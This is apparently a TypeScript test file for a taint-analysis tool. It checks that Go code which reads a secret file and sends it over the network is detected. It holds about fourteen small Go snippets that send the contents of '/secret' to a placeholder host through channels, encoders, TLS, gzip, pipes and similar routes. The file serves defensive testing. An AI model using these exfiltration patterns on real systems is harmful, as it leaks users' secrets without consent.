import type { TaintProbe } from '@clawback/model'
import { expect, it } from 'vitest'

import { factsOf } from '../testkit.js'
const probe: TaintProbe = {
  kind: 'taint',
  id: 'go',
  pack: 'test',
  tags: ['t'],
  language: 'go',
  sources: [{ pattern: 'os.ReadFile(*secret*)', tag: 'file' }],
  sinks: [
    { pattern: 'net/http.Post', tag: 'net' },
    { pattern: 'net.Conn.Write', tag: 'net' },
    { pattern: 'fmt.Println(*fin*)', tag: 'net' },
  ],
  sanitizers: [],
}
const header = `package a
import ("bufio"; "bytes"; "encoding/json"; "encoding/gob"; "fmt"; "io"; "net"; "net/http"; "os";"crypto/tls";"compress/gzip")
`
const flowsOf = async (text: string): Promise<number> =>
  (await factsOf({ 'a.go': header + text }, [probe])).filter(({ kind }) => kind === 'code.flow').length
it.each([
  [
    'chan',
    `func main(){ ch := make(chan []byte); go func(){ b,_ := os.ReadFile("/secret"); ch <- b }(); http.Post("https://a.example","x",bytes.NewReader(<-ch)) }`,
  ],
  [
    'chan before',
    `func main(){ ch := make(chan []byte, 4); go func(){ for b := range ch { http.Post("https://a.example","x",bytes.NewReader(b)) } }(); b,_ := os.ReadFile("/secret"); ch <- b }`,
  ],
  [
    'chan param',
    `func w(ch chan []byte){ for b := range ch { http.Post("https://a.example","x",bytes.NewReader(b)) } }
func main(){ ch := make(chan []byte, 4); go w(ch); b,_ := os.ReadFile("/secret"); ch <- b }`,
  ],
  [
    'chan ok',
    `func main(){ ch := make(chan string, 4); b,_ := os.ReadFile("/secret"); ch <- string(b); v, ok := <-ch; if ok { http.Post("https://a.example","x",bytes.NewReader([]byte(v))) } }`,
  ],
  [
    'select',
    `func main(){ ch := make(chan string, 4); b,_ := os.ReadFile("/secret"); ch <- string(b); select { case v := <-ch: http.Post("https://a.example","x",bytes.NewReader([]byte(v))) } }`,
  ],
  [
    'enc',
    `func main(){ c,_ := net.Dial("tcp","a.example:1"); b,_ := os.ReadFile("/secret"); json.NewEncoder(c).Encode(map[string]string{"a":string(b)}) }`,
  ],
  [
    'enc tls',
    `func main(){ c,_ := tls.Dial("tcp","a.example:1", nil); b,_ := os.ReadFile("/secret"); e := gob.NewEncoder(c); e.Encode(b) }`,
  ],
  [
    'fprintf',
    `func main(){ c,_ := net.Dial("tcp","a.example:1"); b,_ := os.ReadFile("/secret"); fmt.Fprintf(c, "%s", b) }`,
  ],
  [
    'bufw',
    `func main(){ c,_ := net.Dial("tcp","a.example:1"); b,_ := os.ReadFile("/secret"); w := bufio.NewWriter(c); w.Write(b); w.Flush() }`,
  ],
  [
    'gz',
    `func main(){ c,_ := net.Dial("tcp","a.example:1"); b,_ := os.ReadFile("/secret"); w := gzip.NewWriter(c); w.Write(b) }`,
  ],
  [
    'iocopy',
    `func main(){ c,_ := net.Dial("tcp","a.example:1"); b,_ := os.ReadFile("/secret"); io.Copy(c, bytes.NewReader(b)) }`,
  ],
  [
    'enc buf',
    `func main(){ var buf bytes.Buffer; b,_ := os.ReadFile("/secret"); json.NewEncoder(&buf).Encode(b); http.Post("https://a.example","x",&buf) }`,
  ],
  [
    'pipe',
    `func main(){ r, w := io.Pipe(); go func(){ b,_ := os.ReadFile("/secret"); w.Write(b) }(); http.Post("https://a.example","x",r) }`,
  ],
  [
    'percent n',
    `func main(){ s := fmt.Sprintf("%[2]s/%[1]s", "secret", "/etc"); b,_ := os.ReadFile(s); http.Post("https://a.example","x",bytes.NewReader(b)) }`,
  ],
])('%s', async (_, t) => {
  expect(await flowsOf(t)).toBe(1)
})
